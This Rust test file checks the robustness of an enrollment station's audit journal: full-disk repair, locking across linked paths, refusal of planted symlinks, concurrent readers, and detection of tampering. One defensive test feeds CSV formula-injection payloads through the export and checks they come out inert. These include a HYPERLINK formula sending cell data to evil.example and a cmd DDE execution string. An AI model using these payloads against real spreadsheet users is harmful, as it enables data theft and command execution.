//! The audit journal under real conditions, on real files and the real
//! binary: a full disk, a crash mid-line, a second path to the same file, a
//! link planted where a file is written, a reader racing a writer, another
//! program changing the file, a spreadsheet opening an export, and an open
//! attempt reconciled against the wrong server.

mod common;

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use enroll_station::audit::journal::Journal as _;
use enroll_station::audit::{
    AttemptInfo, AuditError, AuditJournal, Operator, Outcome, OutcomeInfo, verify,
};
use enroll_station::cm::emulator::{Emulator, EmulatorConfig};
use enroll_station::domain::card::{Atr, CardId};
use uuid::Uuid;

const CM1: &str = "https://cm1.contoso.com/CertificateManagement/api/v1.0/";

fn attempt(n: u8) -> AttemptInfo {
    AttemptInfo {
        station: "desk-7".into(),
        operator: Operator {
            os_user: Some("alice".into()),
            principal: Some("alice@CONTOSO.COM".into()),
        },
        supervisor: None,
        request_id: Uuid::from_u128(u128::from(n)),
        person: Some(format!("Person {n}")),
        card_id: CardId::from_raw([n; 16]),
        atr: Atr::from_bytes(vec![0x3b, 0x8d, n]),
        reader: "Virtual PCD 00 00".into(),
        message: None,
        api_base: Some(CM1.into()),
    }
}

/// `n` whole binds (attempt and outcome), the journal closed again.
fn journal_of_binds(path: &Path, n: u8) {
    let mut journal = AuditJournal::open(path).expect("the journal opens");
    for i in 1..=n {
        let id = journal.record_attempt(attempt(i)).expect("attempt");
        journal
            .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
            .expect("outcome");
    }
}

fn station(home: &common::binary::StationHome, args: &[&str]) -> Output {
    home.command().args(args).output().expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn arg(path: &Path) -> String {
    path.display().to_string()
}

/// The `.torn-…` copies beside the journal.
fn torn_copies(path: &Path) -> Vec<PathBuf> {
    let name = path.file_name().expect("a name").to_string_lossy();
    let mut copies: Vec<PathBuf> = std::fs::read_dir(path.parent().expect("a folder"))
        .expect("listed")
        .map(|entry| entry.expect("an entry").path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with(&format!("{name}.torn-")))
        })
        .collect();
    copies.sort();
    copies
}

/// A write cut short by a full disk leaves half a line; `audit verify`
/// reports it (after waiting for a writer that never finishes it), the next
/// start cuts it, keeps it in a copy, says so, and the chain goes on.
#[test]
fn a_torn_tail_after_a_full_disk_is_repaired_on_the_next_start() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 2);
    let intact = std::fs::read(&path).expect("readable");
    // What a full disk leaves: the first part of the next line.
    let half = br#"{"seq":5,"time":"2026-12-04T09:14:33.123Z","event":"attempt","outc"#;
    std::fs::OpenOptions::new()
        .append(true)
        .open(&path)
        .and_then(|mut file| file.write_all(half))
        .expect("half a line");

    let output = station(&home, &["audit", "verify", &arg(&path)]);
    assert!(!output.status.success(), "{}", text(&output.stdout));
    let stderr = text(&output.stderr);
    assert!(stderr.contains("incomplete line"), "{stderr}");
    assert!(stderr.contains("repairs it when it next opens"), "{stderr}");

    // The next start: the window, `bind` and `audit reconcile` all open the
    // journal this way; `audit reconcile` says what it repaired.
    let emulator = Emulator::start_on_thread(EmulatorConfig::default()).expect("emulator");
    let output = station(
        &home,
        &[
            "audit",
            "reconcile",
            "--server",
            &emulator.base_url(),
            "--audit-file",
            &arg(&path),
        ],
    );
    let stdout = text(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}\n{}",
        text(&output.stderr)
    );
    assert!(stdout.contains("ended in an incomplete line"), "{stdout}");
    assert!(stdout.contains("kept a copy in"), "{stdout}");

    let copies = torn_copies(&path);
    assert_eq!(copies.len(), 1, "{copies:?}");
    assert_eq!(std::fs::read(&copies[0]).expect("the copy"), half);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&copies[0])
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    assert_eq!(
        std::fs::read(&path).expect("readable"),
        intact,
        "everything before the tear is kept, and only that"
    );

    let output = station(&home, &["audit", "verify", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(
        text(&output.stdout).contains("4 records"),
        "{}",
        text(&output.stdout)
    );
}

/// The same on a real full disk, where the machine allows a small tmpfs
/// (root, Linux): the write fails part-way with ENOSPC, binding stops,
/// and once there is room again the next start repairs the journal.
#[cfg(target_os = "linux")]
#[test]
fn a_real_full_disk_stops_the_journal_and_the_next_start_repairs_it() {
    let mount = tempfile::tempdir().expect("a mount point");
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs"])
        .arg(mount.path())
        .output();
    if !mounted.is_ok_and(|o| o.status.success()) {
        eprintln!("skipped: no tmpfs can be mounted here (needs root)");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(mount.path().to_owned());
    let path = mount.path().join("audit.jsonl");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let first = journal.record_attempt(attempt(1)).expect("room for one");
    journal
        .record_outcome(first, Outcome::Bound, OutcomeInfo::default())
        .expect("and its outcome");
    // Fill the rest of the disk.
    let filler = mount.path().join("filler");
    let mut fill = std::fs::File::create(&filler).expect("filler");
    while fill.write_all(&[0; 1024]).is_ok() {}
    drop(fill);
    let mut n = 2;
    let error = loop {
        match journal.record_attempt(attempt(n)) {
            Ok(_) => n += 1,
            Err(error) => break error,
        }
        assert!(n < 100, "the disk never filled");
    };
    assert!(matches!(error, AuditError::Io { .. }), "{error}");
    assert!(error.to_string().contains("binding stays off"), "{error}");
    drop(journal);
    std::fs::remove_file(&filler).expect("room again");

    let torn = !std::fs::read(&path).expect("readable").ends_with(b"\n");
    let journal = AuditJournal::open(&path).expect("the next start opens it");
    assert_eq!(journal.repair().is_some(), torn);
    if torn {
        assert_eq!(torn_copies(&path).len(), 1);
    }
    drop(journal);
    verify(&path).expect("intact after the repair");
}

/// The lock is on the file, not on the text of its path: a second path
/// through a linked folder, a hard link or `..` meets the same lock, and
/// a symbolic link at the journal's own name is refused outright.
#[cfg(unix)]
#[test]
fn two_paths_to_one_journal_give_one_writer() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let real = dir.path().join("data");
    std::fs::create_dir(&real).expect("a folder");
    let path = real.join("audit.jsonl");
    let first = AuditJournal::open(&path).expect("the first writer");

    let linked_dir = dir.path().join("linked");
    std::os::unix::fs::symlink(&real, &linked_dir).expect("a linked folder");
    let hard = dir.path().join("hard.jsonl");
    std::fs::hard_link(&path, &hard).expect("a hard link");
    let dotted = real.join("..").join("data").join("audit.jsonl");
    for other in [linked_dir.join("audit.jsonl"), hard.clone(), dotted] {
        let second = AuditJournal::open(&other).expect_err("one writer");
        assert!(
            matches!(second, AuditError::InUse { .. }),
            "{}: {second}",
            other.display()
        );
    }

    let link = dir.path().join("link.jsonl");
    std::os::unix::fs::symlink(&path, &link).expect("a link to the journal");
    let refused = AuditJournal::open(&link).expect_err("a link is refused");
    assert!(matches!(refused, AuditError::NotAFile { .. }), "{refused}");
    assert!(refused.to_string().contains("symbolic link"), "{refused}");
    drop(first);
    // Free again: the hard link is the same journal, and it opens.
    let reopened = AuditJournal::open(&hard).expect("opens once free");
    drop(reopened);
    // The link is refused even when nobody holds the journal.
    assert!(matches!(
        AuditJournal::open(&link),
        Err(AuditError::NotAFile { .. })
    ));
}

/// Links planted where the station writes are replaced or refused, never
/// written through: the journal, the configuration file, `--output` of an
/// export, and the dated export names.
#[cfg(unix)]
#[test]
fn a_planted_symlink_is_not_followed() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "the victim's own file\n").expect("written");
    let mode = |path: &Path| std::fs::metadata(path).expect("meta").permissions().mode() & 0o777;

    // The journal.
    let planted = dir.path().join("audit.jsonl");
    std::os::unix::fs::symlink(&victim, &planted).expect("planted");
    let refused = AuditJournal::open(&planted).expect_err("refused");
    assert!(matches!(refused, AuditError::NotAFile { .. }), "{refused}");
    let dangling = dir.path().join("dangling.jsonl");
    std::os::unix::fs::symlink(dir.path().join("new-victim"), &dangling).expect("planted");
    assert!(AuditJournal::open(&dangling).is_err());
    assert!(!dir.path().join("new-victim").exists(), "nothing created");

    // The configuration file.
    let config = dir.path().join("station.toml");
    std::os::unix::fs::symlink(&victim, &config).expect("planted");
    enroll_station::config::StationConfig::default()
        .save(&config)
        .expect("saved");
    assert!(std::fs::symlink_metadata(&config).expect("meta").is_file());
    assert_eq!(mode(&config), 0o600);

    // An export's --output.
    let journal = dir.path().join("real.jsonl");
    journal_of_binds(&journal, 1);
    assert_eq!(mode(&journal), 0o600, "a new journal is its owner's");
    let out = dir.path().join("export.csv");
    std::os::unix::fs::symlink(&victim, &out).expect("planted");
    let output = station(
        &home,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--output",
            &arg(&out),
            &arg(&journal),
        ],
    );
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(std::fs::symlink_metadata(&out).expect("meta").is_file());
    assert!(text(&std::fs::read(&out).expect("the export")).starts_with("seq,"));
    assert_eq!(mode(&out), 0o600);

    // A dated export name taken by a link is skipped, not followed.
    let exports = dir.path().join("exports");
    std::fs::create_dir(&exports).expect("a folder");
    let day = time::Date::from_calendar_date(2026, time::Month::December, 4).expect("a date");
    let first = exports.join(enroll_station::audit::export_file_name(
        day,
        enroll_station::audit::ExportFormat::Json,
        1,
    ));
    std::os::unix::fs::symlink(&victim, &first).expect("planted");
    let (written, _) = enroll_station::audit::export_to_new_file(
        &journal,
        enroll_station::audit::ExportFormat::Json,
        &exports,
        day,
    )
    .expect("exported");
    assert_ne!(written, first);

    assert_eq!(
        std::fs::read_to_string(&victim).expect("read"),
        "the victim's own file\n",
        "no write went through a link"
    );
}

/// A reader name a rogue USB reader chose, starting with `=`, reaches the
/// CSV export as text a spreadsheet does not run.
#[test]
fn a_csv_export_of_a_formula_like_reader_name_is_inert() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTabbed",
    ];
    let mut journal = AuditJournal::open(&path).expect("opens");
    for (i, reader) in hostile.iter().enumerate() {
        let _open = journal
            .record_attempt(AttemptInfo {
                reader: (*reader).to_owned(),
                operator: Operator {
                    os_user: Some("=1+1".into()),
                    principal: None,
                },
                ..attempt(i as u8 + 1)
            })
            .expect("attempt");
    }
    drop(journal);
    let output = station(&home, &["audit", "export", "--format", "csv", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let csv = text(&output.stdout);
    let rows: Vec<&str> = csv.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), hostile.len() + 1, "{csv}");
    let header: Vec<&str> = rows[0].split(',').collect();
    let reader = header.iter().position(|h| *h == "reader").expect("reader");
    let user = header
        .iter()
        .position(|h| *h == "operator_os_user")
        .expect("user");
    for row in &rows[1..] {
        let cells = csv_cells(row);
        assert_eq!(cells.len(), header.len(), "{row}");
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live cell {cell:?} in {row}"
            );
        }
        assert!(cells[reader].starts_with('\''), "{row}");
        assert_eq!(cells[user], "'=1+1");
    }
    assert_eq!(
        csv_cells(rows[1])[reader],
        "'=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")"
    );
    // The JSON export keeps the value as journalled: it runs nothing.
    let output = station(&home, &["audit", "export", "--format", "json", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let records: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(records[0]["reader"], hostile[0]);
}

/// The cells of one CSV row (RFC 4180 quoting).
fn csv_cells(row: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = row.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("a cell").push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().expect("a cell").push(c),
        }
    }
    cells
}

/// An attempt journalled against one server is not judged by another: the
/// real binary, pointed at another server, leaves it open and says which
/// server to reconcile it with; pointed at its own server, it is resolved.
#[test]
fn reconcile_refuses_an_attempt_made_against_another_server() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let emulator = Emulator::start_on_thread(EmulatorConfig::default()).expect("emulator");
    let request = common::first_bindable(&emulator);
    let here = enroll_station::cm::client::api_base_url(&emulator.base_url())
        .expect("the emulator's API")
        .to_string();
    let mut journal = AuditJournal::open(&path).expect("opens");
    let elsewhere = journal
        .record_attempt(AttemptInfo {
            request_id: request.uuid,
            ..attempt(1)
        })
        .expect("an attempt that went to cm1");
    let _ = elsewhere;
    drop(journal);

    let reconcile = || {
        station(
            &home,
            &[
                "audit",
                "reconcile",
                "--server",
                &emulator.base_url(),
                "--audit-file",
                &arg(&path),
            ],
        )
    };
    let output = reconcile();
    let stdout = text(&output.stdout);
    assert!(output.status.success(), "{stdout}{}", text(&output.stderr));
    assert!(
        stdout.contains(&format!(
            "This attempt went to {CM1}; the station now talks to {here}: reconcile it with \
             `enroll-station audit reconcile --server {CM1}`"
        )),
        "{stdout}"
    );
    let report = verify(&path).expect("intact");
    assert_eq!(report.unfinished, 1, "left open for its own server");
    assert_eq!(emulator.bind_count(), 0);

    // The same kind of attempt sent to this server is judged by it.
    let mut journal = AuditJournal::open(&path).expect("opens");
    let _ours = journal
        .record_attempt(AttemptInfo {
            request_id: request.uuid,
            api_base: Some(here.clone()),
            ..attempt(2)
        })
        .expect("an attempt that went here");
    drop(journal);
    let output = reconcile();
    let stdout = text(&output.stdout);
    assert!(output.status.success(), "{stdout}{}", text(&output.stderr));
    assert!(stdout.contains("Reconciled: "), "{stdout}");
    assert!(stdout.contains("This attempt went to"), "{stdout}");
    assert_eq!(verify(&path).expect("intact").unfinished, 1);
}

/// Every attempt says where it went, through the port the bind uses; an
/// outcome repeats it.
#[test]
fn every_attempt_records_the_api_base() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let target = enroll_station::domain::bind::BindTarget {
        request_id: Uuid::from_u128(7),
        person: "Jane Doe".into(),
        reader: "Reader 0".into(),
        expected: enroll_station::domain::card::CardIdentity {
            atr: Atr::from_bytes(vec![0x3b, 0x8d, 7]),
            card_id: CardId::from_raw([7; 16]),
            kind: enroll_station::domain::card::CardKind::Gids,
            chip: None,
            location: None,
            yubikey_serial: None,
        },
        supervisor: None,
    };
    let id = enroll_station::audit::journal::Journal::record_attempt(
        &mut journal,
        &target,
        Operator::default(),
        CM1,
    )
    .expect("recorded");
    let open = journal.open_attempts();
    assert_eq!(open[0].api_base.as_deref(), Some(CM1));
    enroll_station::audit::journal::Journal::record_outcome(
        &mut journal,
        &id,
        Outcome::Bound,
        OutcomeInfo::default(),
    )
    .expect("outcome");
    drop(journal);
    let text = std::fs::read_to_string(&path).expect("readable");
    assert_eq!(
        text.matches(&format!("\"api_base\":\"{CM1}\"")).count(),
        2,
        "{text}"
    );
}

/// While a writer appends, a reader (`verify`, `export`) sees a complete
/// journal every time: a line caught half written is read again, not
/// reported.
#[test]
fn a_reader_sees_a_complete_file_while_a_writer_appends() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 1);

    // A line finished a little later than the reader first looked.
    let intact = std::fs::read(&path).expect("readable");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let _open = journal.record_attempt(attempt(2)).expect("attempt");
    drop(journal);
    let whole = std::fs::read(&path).expect("readable");
    let cut = intact.len() + (whole.len() - intact.len()) / 2;
    std::fs::write(&path, &whole[..cut]).expect("half of the last line");
    let finisher = {
        let path = path.clone();
        let rest = whole[cut..].to_vec();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(120));
            std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .and_then(|mut file| file.write_all(&rest))
                .expect("the rest of the line");
        })
    };
    let report = verify(&path).expect("the finished line is read, not reported");
    assert_eq!(report.records, 3);
    finisher.join().expect("finished");

    // A real writer appending while readers read, over and over.
    let writer = {
        let path = path.clone();
        std::thread::spawn(move || {
            let mut journal = AuditJournal::open(&path).expect("opens");
            for n in 10..70u8 {
                let id = journal.record_attempt(attempt(n)).expect("attempt");
                journal
                    .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
                    .expect("outcome");
            }
        })
    };
    let mut reads = 0;
    while !writer.is_finished() {
        verify(&path).expect("a complete journal");
        let mut out = Vec::new();
        enroll_station::audit::export(&path, enroll_station::audit::ExportFormat::Json, &mut out)
            .expect("a complete export");
        reads += 1;
    }
    writer.join().expect("the writer finished");
    assert!(reads > 0);
    assert_eq!(verify(&path).expect("intact").records, 3 + 120);
}

/// Another program that cuts, appends to or replaces the journal while the
/// station holds it stops the next append, in words.
#[cfg(unix)]
#[test]
fn a_journal_changed_behind_the_writer_is_not_appended_to() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let cases: [(&str, fn(&Path)); 3] = [
        ("something else was appended", |path| {
            std::fs::OpenOptions::new()
                .append(true)
                .open(path)
                .and_then(|mut file| file.write_all(b"{\"seq\":99}\n"))
                .expect("appended");
        }),
        ("its end was cut", |path| {
            let bytes = std::fs::read(path).expect("read");
            let keep = bytes[..bytes.len() - 1]
                .iter()
                .rposition(|b| *b == b'\n')
                .expect("two lines")
                + 1;
            std::fs::OpenOptions::new()
                .write(true)
                .open(path)
                .and_then(|file| file.set_len(keep as u64))
                .expect("cut");
        }),
        ("another file was put", |path| {
            let bytes = std::fs::read(path).expect("read");
            let aside = path.with_extension("old");
            std::fs::rename(path, &aside).expect("moved aside");
            std::fs::write(path, bytes).expect("a copy in its place");
        }),
    ];
    for (n, (words, change)) in cases.into_iter().enumerate() {
        let path = dir.path().join(format!("audit-{n}.jsonl"));
        let mut journal = AuditJournal::open(&path).expect("opens");
        for i in 1..=2 {
            let id = journal.record_attempt(attempt(i)).expect("attempt");
            journal
                .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
                .expect("outcome");
        }
        change(&path);
        let error = journal.record_attempt(attempt(3)).expect_err("refused");
        let message = error.to_string();
        assert!(matches!(error, AuditError::Changed { .. }), "{message}");
        assert!(message.contains(words), "{message}");
        assert!(message.contains("changed by another program"), "{message}");
        let again = journal
            .record_attempt(attempt(4))
            .expect_err("still refused");
        assert!(matches!(again, AuditError::Unusable { .. }), "{again}");
    }
}
